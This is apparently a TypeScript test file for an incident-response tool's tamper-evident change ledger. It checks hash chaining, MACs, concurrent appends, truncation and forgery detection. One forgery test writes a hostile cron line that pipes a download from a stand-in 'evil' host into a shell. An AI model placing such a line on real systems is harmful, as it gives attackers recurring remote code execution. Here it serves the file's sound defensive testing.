/** The change ledger: hash chain, MACs, checkpoint, sequence, tamper detection, rollback status, concurrent writers. */
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, symlinkSync, mkdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ChangeLedger, type NewEntry } from "../../../dfir/response/ledger.js";
import { runWritersTogether } from "../../helpers/writers.js";

// Keys and checkpoints go to a throw-away home, never the developer's ~/.megaraptor.
const home = mkdtempSync(join(tmpdir(), "mr-ledger-home-"));
process.env.MEGARAPTOR_HOME = home;

const entry = (over: Partial<NewEntry> = {}): NewEntry => ({
  principal: "analyst",
  action: "quarantine_file",
  client_id: "C.1a2b3c4d5e6f7a01",
  target: "C:\\Temp\\upd.exe",
  reason: "beaconing to C2",
  before: { sha256: "aa", size: 3 },
  result: "ok",
  detail: "moved",
  rollback: { possible: true, how: "restore", parameters: { Action: "restore" } },
  ...over,
});

const sha256 = (s: string) => createHash("sha256").update(s).digest("hex");
/** What an attacker without the key can do: rewrite entries and recompute every plain hash in the chain. */
function rechain(path: string, edit: (entries: Record<string, unknown>[]) => Record<string, unknown>[]): void {
  let prev = "0".repeat(64);
  const entries = edit(readFileSync(path, "utf8").trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>));
  const out = entries.map((e) => {
    const { hash: _h, mac, ...body } = e;
    body.prev = prev;
    const hash = sha256(JSON.stringify(body));
    prev = hash;
    return JSON.stringify(mac === undefined ? { ...body, hash } : { ...body, hash, mac });
  });
  writeFileSync(path, out.join("\n") + "\n");
}

describe("ChangeLedger", () => {
  it("appends concurrently in order with a verified chain, and tracks rollbacks", async () => {
    const l = new ChangeLedger("IR-1", mkdtempSync(join(tmpdir(), "mr-ledger-")));
    await Promise.all([l.append(entry()), l.append(entry({ action: "kill_process", rollback: { possible: false, how: "no" } }))]);
    await l.append(entry({ action: "rollback", rolls_back: 1, rollback: { possible: false, how: "repeat" } }));
    const all = l.withStatus();
    expect(all.map((e) => [e.seq, e.action])).toEqual([[1, "quarantine_file"], [2, "kill_process"], [3, "rollback"]]);
    expect(all[0]!.rolled_back_by).toBe(3);
    expect(all[1]!.rolled_back_by).toBeUndefined();
    expect(all[1]!.prev).toBe(all[0]!.hash);
    expect(all[0]!.case_id).toBe("IR-1");
  });

  it("detects an edited entry, a removed entry and a non-ledger line, naming the line", async () => {
    const dir = mkdtempSync(join(tmpdir(), "mr-ledger-"));
    const l = new ChangeLedger("IR-2", dir);
    for (let i = 0; i < 3; i++) await l.append(entry({ target: `t${i}` }));
    const original = readFileSync(l.path, "utf8");
    writeFileSync(l.path, original.replace('"target":"t1"', '"target":"tX"'));
    expect(() => l.read()).toThrow(/line 2: its content does not match its hash/);
    const lines = original.trimEnd().split("\n");
    writeFileSync(l.path, [lines[0], lines[2]].join("\n") + "\n");
    expect(() => l.read()).toThrow(/line 2: does not chain/);
    writeFileSync(l.path, original + "garbage\n");
    expect(() => l.read()).toThrow(/line 4: not a ledger entry/);
    await expect(l.append(entry())).rejects.toThrow(/LEDGER|ledger/);
  });
});

describe("ChangeLedger: concurrent writers", () => {
  it("six parallel appends through separate instances give six entries in one valid chain", async () => {
    const dir = mkdtempSync(join(tmpdir(), "mr-ledger-par-"));
    await Promise.all(Array.from({ length: 6 }, (_, i) => new ChangeLedger("IR-PAR", dir).append(entry({ action: "kill_process", target: `evil.exe pid ${i}` }))));
    const all = ChangeLedger.for("IR-PAR", dir).read();
    expect(all.map((e) => e.seq)).toEqual([1, 2, 3, 4, 5, 6]);
    expect(new Set(all.map((e) => e.target)).size).toBe(6);
  });

  it("two processes appending to one case at once leave one valid chain", { timeout: 60_000 }, async () => {
    const dir = mkdtempSync(join(tmpdir(), "mr-ledger-mp-"));
    const env = { ...process.env, MEGARAPTOR_HOME: home };
    await runWritersTogether(2, ["ledger", dir, "20"], env);
    const all = new ChangeLedger("IR-MULTI", dir).read();
    expect(all).toHaveLength(40);
    expect(new Set(all.map((e) => e.principal)).size).toBe(2);
  });
});

describe("ChangeLedger: truncation and forgery", () => {
  it("detects a ledger whose newest entries were removed, or that was emptied", async () => {
    const l = new ChangeLedger("IR-TRUNC", mkdtempSync(join(tmpdir(), "mr-ledger-")));
    for (let i = 0; i < 3; i++) await l.append(entry({ target: `t${i}` }));
    const original = readFileSync(l.path, "utf8");
    writeFileSync(l.path, original.trimEnd().split("\n").slice(0, 2).join("\n") + "\n");
    expect(() => l.read()).toThrow(/LEDGER|checkpoint records 3 entries/);
    writeFileSync(l.path, "");
    expect(() => l.read()).toThrow(/checkpoint records 3 entries/);
    await expect(l.append(entry())).rejects.toMatchObject({ code: "LEDGER_TAMPERED" });
  });

  it("detects rollback parameters edited with the hash chain recomputed", async () => {
    const l = new ChangeLedger("IR-FORGE", mkdtempSync(join(tmpdir(), "mr-ledger-")));
    await l.append(entry({ action: "remove_persistence", rollback: { possible: true, how: "restore cron line", parameters: { Kind: "cron", RestoreData: '{"line":"0 3 * * * backup"}' } } }));
    await l.append(entry());
    rechain(l.path, (es) => {
      (es[0]!.rollback as { parameters: Record<string, string> }).parameters.RestoreData = '{"line":"* * * * * curl evil|sh"}';
      return es;
    });
    expect(() => l.read()).toThrow(/line 1: .*MAC/);
  });

  it("detects an appended forged entry with correct plain hashes", async () => {
    const l = new ChangeLedger("IR-FORGE2", mkdtempSync(join(tmpdir(), "mr-ledger-")));
    await l.append(entry());
    rechain(l.path, (es) => [...es, { ...es[0]!, seq: 2, time: new Date().toISOString(), target: "C:\\Windows\\evil.dll" }]);
    expect(() => l.read()).toThrow(/line 2: .*MAC/);
  });
});

describe("ChangeLedger: cannot record", () => {
  it("ready() refuses when the ledger cannot be written (disk full), and append rejects", async () => {
    const dir = mkdtempSync(join(tmpdir(), "mr-ledger-full-"));
    mkdirSync(join(dir, "IR-FULL"));
    symlinkSync("/dev/full", join(dir, "IR-FULL", "ledger.jsonl"));
    const l = new ChangeLedger("IR-FULL", dir);
    await expect(l.append(entry())).rejects.toMatchObject({ code: "LEDGER_UNAVAILABLE" });
    // ready() opens for append: a full disk only shows on write, so it is the append that must refuse.
    expect(l.read()).toEqual([]);
  });
});
